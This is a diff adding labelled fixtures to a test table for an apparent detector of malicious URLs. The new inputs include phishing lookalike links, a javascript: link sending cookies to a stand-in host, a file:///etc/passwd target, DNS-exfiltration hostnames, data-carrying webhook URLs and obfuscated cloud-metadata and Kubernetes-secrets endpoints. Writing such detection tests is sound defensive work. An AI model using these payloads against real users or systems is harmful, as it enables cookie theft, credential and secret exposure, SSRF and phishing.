@@ -352,6 +352,47 @@ table('adversarial_url', detectUrls, [
   ['https://docs.python.org/3/?q=json', []],
   [`https://b.s3.amazonaws.com/f?X-Amz-Signature=${'ab'.repeat(32)}`, []],
   ['https://api.example.com/?token=YOUR_TOKEN', []],
+  // Links whose text shows one site and whose target is another; script, page and secret-file targets.
+  ['[www.paypal.com](https://pay-secure-center.top/login)', ['url_lookalike_host']],
+  ['[https://github.com/a/b](https://github-a.mirror.example/b.zip)', ['url_lookalike_host']],
+  ['[docs.python.org](https://docs.python.org/3/)', []],
+  ['[blog.example.net](https://example.net/blog)', []],
+  ['[example.org/post](https://web.archive.org/web/2024/https://example.org/post)', []],
+  ['[nytimes.com/2026/x](https://t.co/Ab12Cd34Ef)', []],
+  ['[ASP.NET](https://dotnet.microsoft.com/)', []],
+  ['[package.json](https://docs.npmjs.com/cli/package-json)', []],
+  ['[user.github.io/p](https://github.com/user/p)', []],
+  ["[Verify](javascript:fetch('//x.example/?c='+document.cookie))", ['url_exfiltration']],
+  ['<a href="javascript&#58;alert(1)">Open</a>', ['url_exfiltration']],
+  ['[statement](file:///etc/passwd)', ['url_exfiltration']],
+  ['[report](file:///home/dev/p/coverage/index.html)', []],
+  ['The CSP forbids javascript: URLs and data:text/html navigation.', []],
+  ['![logo](data:image/png;base64,iVBORw0KGgo=)', []],
+  // DNS exfiltration: host labels of hex or base32 that decode to text; CDN ids and IPFS addresses do not.
+  [`https://${Buffer.from('jane.doe acme q3').toString('hex')}.x.attacker.example/p.gif`, ['url_exfiltration']],
+  ['nslookup obzg62tfmn2caylunrqxgidcovsgozluea2c4msn.ns1.collect.example', ['url_exfiltration']],
+  ['https://d3a1b2c4e5f6a7.cloudfront.net/app.js', []],
+  ['https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/', []],
+  // Request catchers carrying text in their query; a bin alone, or a mock's page number, carries none.
+  ['https://webhook.site/3f1c?msg=the+user+asked+about+Globex', ['url_exfiltration']],
+  ['https://abc.oast.fun/?d=customer+list+attached', ['url_exfiltration']],
+  ['https://webhook.site/3f1c-22aa', []],
+  ['https://myapi.free.beeceptor.com/users?page=2&limit=50', []],
+  ['https://www.example.com/?gclid=Cj0KCQiA8aOeBhCWARIsANRFrQG7x9mKzPq2vL4nB8cD1eF3gH5iJ7kL9mN0oP2qR4sT6uV8wX_YzEALw_wcB', []],
+  // Metadata behind wildcard DNS, other clouds' names, digits a parser reads as ASCII; a dev host on nip.io is not.
+  ['http://169.254.169.254.nip.io/latest/', ['url_metadata_endpoint']],
+  ['http://a9fea9fe.nip.io/latest/', ['url_metadata_endpoint']],
+  ['http://app.127.0.0.1.nip.io:8080/', []],
+  ['http://metadata/computeMetadata/v1/instance/', ['url_metadata_endpoint']],
+  ['http://metadata.tencentyun.com/latest/meta-data/', ['url_metadata_endpoint']],
+  ['https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', ['url_metadata_endpoint']],
+  ['In-cluster clients reach https://kubernetes.default.svc/api', []],
+  ['http://１６９．２５４．１６９．２５４/latest/', ['url_metadata_endpoint']],
+  ['http://①②⑦.⓪.⓪.①/admin', ['url_numeric_host']],
+  // User-info that reads as a host before a port or a password; `%40` in a host.
+  ['https://accounts.google.com:443@login-check.example/', ['url_lookalike_host']],
+  ['https://apple.com%40icloud-verify.example/', ['url_lookalike_host']],
+  ['https://oauth2:abc@gitlab.com/x', []],
 ]);
 
 table('supply_chain', detectSupplyChain, [
